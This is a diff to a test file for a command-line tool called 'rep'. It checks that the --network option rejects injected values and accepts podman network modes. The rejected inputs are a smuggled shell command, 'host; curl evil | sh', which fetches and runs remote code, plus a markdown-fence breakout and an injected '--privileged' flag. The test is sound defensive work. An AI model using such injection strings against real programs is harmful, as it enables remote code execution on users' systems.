@@ -116,12 +116,12 @@ describe('rep CLI', () => {
 
   it('--network takes a network as docker and podman name one, nothing a command line or REPRODUCE.md could read otherwise', () => {
     const dir = makeProject({ Repfile: REPFILE, 'src/a': 'a' });
-    const expected = 'a network: none, host, bridge, a network name or container:NAME (letters, digits, _ . -)';
+    const expected = 'a network: none, host, bridge, a network name, container:NAME (letters, digits, _ . -), or podman';
     for (const args of [['build', '--engine', 'none', '--network', 'host; curl evil | sh'], ['publish', '--engine', 'none', '-o', 'b', '--network=host\n```'], ['verify', 'b', '--network', '--privileged']]) {
       const r = rep(dir, args);
       expect([r.code, r.stderr], args.join(' ')).toEqual([2, expect.stringContaining(expected)]);
     }
-    expect(rep(dir, ['build', '--engine', 'none', '--network', 'container:my-db.1']).code).toBe(0);
+    for (const fine of ['container:my-db.1', 'slirp4netns:allow_host_loopback=true', 'pasta:-T,8080', 'ns:/run/netns/x']) expect(rep(dir, ['build', '--engine', 'none', '--network', fine]).code, fine).toBe(0);
   });
 
   it('build --dry-run writes nothing', () => {
